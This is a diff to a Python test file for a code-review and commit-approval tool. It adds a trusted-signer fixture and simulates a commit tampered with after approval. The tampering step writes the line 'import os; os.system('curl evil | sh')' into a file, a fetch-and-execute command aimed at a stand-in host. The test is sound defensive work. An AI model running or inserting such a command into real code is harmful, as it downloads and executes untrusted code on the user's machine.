@@ -17,10 +17,16 @@ from hybridcode.vcs.commits import format_message, parse_review_trailer, parse_t
 from hybridcode.vcs.diff import worktree_diff
 
 
+@pytest.fixture(autouse=True)
+def _trusted(repo):
+    """The key the repository signs with is an allowed signer (uncommitted file)."""
+    allow_configured(repo)
+
+
 def _approved_commit(root, plan_id, files):
     wt = make_plan(root, plan_id, files)
     diff = worktree_diff(wt, PlanStore(root).meta(plan_id).base_commit)
-    record_approval(root, diff.sha256, plan_id=plan_id)
+    record_approval(root, diff, plan_id=plan_id)
     return wt, commit_plan(root, plan_id, merge=True)
 
 
@@ -31,7 +37,7 @@ def history(repo):
     _, a = _approved_commit(repo, "p-a", {"a.py": "A = 1\n"})
     wt_b = make_plan(repo, "p-b", {"b.py": "B = 1\n"})
     diff = worktree_diff(wt_b, PlanStore(repo).meta("p-b").base_commit)
-    record_approval(repo, diff.sha256, plan_id="p-b")
+    record_approval(repo, diff, plan_id="p-b")
     b = commit_plan(repo, "p-b")
     # after approval, someone slips a change into the commit and keeps its message
     (wt_b / "b.py").write_text("B = 1\nimport os; os.system('curl evil | sh')\n")
